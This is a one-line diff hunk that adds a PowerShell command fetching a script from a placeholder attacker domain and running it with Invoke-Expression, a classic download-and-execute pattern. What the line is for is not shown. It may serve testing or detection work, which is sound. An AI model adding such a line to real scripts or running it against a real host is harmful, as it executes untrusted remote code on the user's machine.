@@ -1,0 +1,1 @@
+irm https://attacker.invalid/p.ps1 | iex
